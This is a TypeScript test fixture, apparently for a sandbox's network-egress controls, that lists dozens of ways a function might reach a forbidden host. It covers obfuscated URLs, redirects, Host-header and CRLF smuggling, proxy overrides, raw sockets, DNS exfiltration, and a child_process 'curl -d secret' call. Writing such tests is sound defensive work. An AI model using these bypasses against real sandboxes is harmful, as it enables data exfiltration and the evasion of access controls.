/**
 * Ways in which a function could send to a host that its egress does not name, as data: a name, and the body of an
 * async function with `svc` and `require` in scope.
 */
export interface EgressAttempt {
  readonly name: string;
  readonly body: string;
  /** Nothing arrives even where every host is open: the process has no such thing. */
  readonly isClosed?: boolean;
}

interface Places {
  /** Origin of the function's provider, `api.own.example` with a port. */
  readonly own: string;
  /** Name and port of the host that is not to be reached; it is on 127.0.0.1. */
  readonly foreign: string;
  readonly port: number;
}

export function listAttempts(places: Places): EgressAttempt[] {
  return [
    ...listAddresses(places),
    ...listRedirects(places),
    ...listCalls(places),
    ...listClosedCalls(places),
    ...listModules(places),
  ];
}

function listAddresses({ foreign, port }: Places): EgressAttempt[] {
  const [first = "", rest = ""] = foreign.split(".");
  const addresses: Readonly<Record<string, string>> = {
    "the host itself": `http://${foreign}:${port}/x`,
    "upper case": `HTTP://${foreign.toUpperCase()}:${port}/x`,
    "a dot at the end": `http://${foreign}.:${port}/x`,
    "a name below the own host's": `http://api.own.example.${foreign}:${port}/x`,
    "a name that ends in the own host's": `http://xapi.own.example:${port}/x`,
    "another port of the own host": `http://api.own.example:${port}/x`,
    "one slash": `http:/${foreign}:${port}/x`,
    "no slash": `http:${foreign}:${port}/x`,
    backslashes: `http:\\\\${foreign}:${port}\\x`,
    "a backslash before the own host": `http://${foreign}:${port}\\@api.own.example/x`,
    "a tab in the name": `http://${first}\t.${rest}:${port}/x`,
    "a line break in the name": `http://${first}\n.${rest}:${port}/x`,
    "a full-width letter": `http://\uff46${foreign.slice(1)}:${port}/x`,
    "an ideographic dot": `http://${first}\u3002${rest}:${port}/x`,
    "a percent-encoded dot": `http://${first}%2e${rest}:${port}/x`,
    "a look-alike in another script": `http://api.\u043ewn.example:${port}/x`,
    "its punycode": `http://api.xn--wn-pmc.example:${port}/x`,
    "an address": `http://127.0.0.1:${port}/x`,
    "a decimal address": `http://2130706433:${port}/x`,
    "a hexadecimal address": `http://0x7f000001:${port}/x`,
    "an octal address": `http://0177.0.0.1:${port}/x`,
    "a short address": `http://127.1:${port}/x`,
    "an IPv6 address that maps one of IPv4": `http://[::ffff:127.0.0.1]:${port}/x`,
    "the port with zeros": `http://${foreign}:000${port}/x`,
    "a name that carries data": `http://${"73656372".repeat(6)}.${foreign}:${port}/x`,
    "a path that carries data": `http://${foreign}:${port}/${"s".repeat(2000)}`,
  };
  // Closed to functions by what they ask for, wherever it would go.
  const closed: Readonly<Record<string, string>> = {
    "a user before the host": `http://api.own.example@${foreign}:${port}/x`,
    "an IPv6 address": `http://[::1]:${port}/x`,
    "another scheme": `ftp://${foreign}:${port}/x`,
    "a socket's scheme": `ws://${foreign}:${port}/x`,
  };
  const toFetch = ([name, address]: [string, string]) => ({
    name: `fetch of ${name}`,
    body: `await fetch(${JSON.stringify(address)}, { method: "POST", body: "secret" });`,
  });
  return [
    ...Object.entries(addresses).map(toFetch),
    ...Object.entries(closed).map((entry) => ({ ...toFetch(entry), isClosed: true })),
  ];
}

function listRedirects({ own }: Places): EgressAttempt[] {
  const byStatus = [301, 302, 303, 307, 308].flatMap((status) => [
    {
      name: `fetch behind a redirect ${status}`,
      body: `await fetch("${own}/to/${status}", { method: "POST", body: "secret" });`,
    },
    {
      name: `svc.post behind a redirect ${status}`,
      body: `await svc.post({ endpoint: "/to/${status}", data: { secret: 1 } });`,
    },
  ]);
  return [
    ...byStatus,
    { name: "a redirect without a scheme", body: `await fetch("${own}/bare");` },
    { name: "a redirect by backslashes", body: `await fetch("${own}/backslashes");` },
    { name: "a redirect behind another", body: `await fetch("${own}/twice");` },
    {
      name: "a redirect of svc with the headers of the caller",
      body: 'await svc.get({ endpoint: "/to/302", headers: { "x-secret": "secret" }, forwardHeadersOnRedirect: true });',
    },
    {
      name: "a redirect that the function follows by hand",
      body: `const answer = await fetch("${own}/to/302", { redirect: "manual" }); await fetch(answer.headers.get("location"));`,
    },
  ];
}

function listCalls({ foreign, port }: Places): EgressAttempt[] {
  const to = `http://${foreign}:${port}`;
  return [
    {
      name: "uncontrolledFetch",
      body: `await svc.uncontrolledFetch({ url: new URL("${to}/"), method: "POST", body: "secret" });`,
    },
    {
      name: "another base URL",
      body: `await svc.post({ endpoint: "/x", baseUrlOverride: "${to}", data: {} });`,
    },
    {
      name: "another base URL, in upper case and with a dot",
      body: `await svc.get({ endpoint: "/x", baseUrlOverride: "HTTP://${foreign.toUpperCase()}.:${port}" });`,
    },
    {
      name: "another base URL with retries",
      body: `await svc.get({ endpoint: "/x", retries: 3, baseUrlOverride: "${to}/a/b" });`,
    },
    {
      name: "a connection of an integration at the foreign host",
      body: 'await svc.post({ endpoint: "/x", providerConfigKey: "other", connectionId: "o1", data: {} });',
    },
    {
      name: "an action that may send anywhere",
      body: 'await svc.triggerAction("crm", "c1", "open", { secret: 1 });',
    },
    {
      name: "a page that the provider links",
      body: 'for await (const page of svc.paginate({ endpoint: "/linked", paginate: { type: "link", link_rel_in_response_header: "next", response_path: "items" } })) void page;',
    },
    {
      name: "a form",
      body: `const form = new FormData(); form.set("secret", "x"); await fetch("${to}/", { method: "POST", body: form });`,
    },
    {
      name: "a Request",
      body: `await fetch(new Request("${to}/", { method: "PUT", body: "secret" }));`,
    },
    {
      name: "many at once",
      body: `await Promise.all(Array.from({ length: 20 }, (_, n) => fetch("http://s" + n + ".${foreign}:${port}/")));`,
    },
  ];
}

function listClosedCalls({ own, foreign, port }: Places): EgressAttempt[] {
  const host = `${foreign}:${port}`;
  const bodies = [
    `await svc.get({ endpoint: "http://${host}/x" });`,
    `await svc.get({ endpoint: "//${host}/x" });`,
    `await svc.get({ endpoint: "\\\\\\\\${host}/x" });`,
    `await svc.get({ endpoint: "@${host}/x" });`,
    `await svc.get({ endpoint: "/x", baseUrlOverride: "http://api.own.example@${host}" });`,
    `await svc.get({ endpoint: "/x", headers: { host: "${host}" } });`,
    `await fetch("${own}/x", { headers: { host: "${host}" } });`,
    `await fetch("${own}/x", { headers: { "x-forwarded-host": "${host}", forwarded: "host=${foreign}" } });`,
    `await svc.proxy({ method: "CONNECT", endpoint: "${host}" });`,
    `await svc.uncontrolledFetch({ url: new URL("http://${host}/"), method: "CONNECT" });`,
    `await fetch("${own}/x", { headers: { upgrade: "websocket", connection: "upgrade" } });`,
    `await fetch("${own}/alt"); await fetch("${own}/alt");`,
    `process.env.HTTP_PROXY = process.env.http_proxy = process.env.NODE_USE_ENV_PROXY = "http://${host}"; await fetch("${own}/x");`,
    `await fetch("${own}/x HTTP/1.1\\r\\nHost: ${foreign}\\r\\n\\r\\n");`,
    `const socket = new WebSocket("ws://${host}/"); await new Promise((resolve) => { socket.onopen = socket.onerror = resolve; });`,
    `const source = new EventSource("http://${host}/"); await new Promise((resolve) => { source.onopen = source.onerror = resolve; });`,
    `navigator.sendBeacon("http://${host}/", "secret");`,
    `new XMLHttpRequest().open("GET", "http://${host}/");`,
    `globalThis[Symbol.for("undici.globalDispatcher.1")].request({ origin: "http://127.0.0.1:${port}", path: "/", method: "GET" });`,
    `new Worker("require('node:net').connect(${port})", { eval: true });`,
    `await import("http://${host}/x.mjs");`,
    `await import("data:text/javascript,fetch('http://127.0.0.1:${port}')");`,
    'process.binding("tcp_wrap").TCP;',
    'new (process.binding("udp_wrap").UDP)(0);',
  ];
  return bodies.map((body) => ({ name: body, isClosed: true, body }));
}

function listModules({ foreign, port }: Places): EgressAttempt[] {
  const post = `module.request({ port: ${port}, method: "POST" }).end("secret")`;
  const uses: Readonly<Record<string, string>> = {
    net: `module.connect(${port}, "127.0.0.1").end("secret")`,
    tls: `module.connect(${port}, "127.0.0.1")`,
    http: post,
    https: post,
    http2: `module.connect("http://127.0.0.1:${port}").request({})`,
    dgram: `module.createSocket("udp4").send("secret", ${port}, "127.0.0.1")`,
    dns: `module.lookup("secret.${foreign}", () => {}); module.resolve4("secret.${foreign}", () => {})`,
    "dns/promises": `await module.resolve4("secret.${foreign}")`,
    child_process: `module.execSync("curl -d secret http://127.0.0.1:${port}")`,
    cluster: "module.fork()",
    worker_threads: `new module.Worker("fetch('http://127.0.0.1:${port}')", { eval: true })`,
    undici: `await module.request("http://127.0.0.1:${port}")`,
    inspector: `module.open(${port})`,
    quic: `module.connect("127.0.0.1:${port}")`,
  };
  return Object.entries(uses).map(([name, use]) => ({
    name: `node:${name}`,
    isClosed: true,
    body: `for (const get of [
        () => require("node:${name}"), () => require("${name}"), () => process.getBuiltinModule("node:${name}"),
        () => process.mainModule.require("${name}"), () => process.binding("${name}"),
      ]) { try { const module = get(); ${use}; } catch {} }
      await new Promise((resolve) => setTimeout(resolve, 100));`,
  }));
}
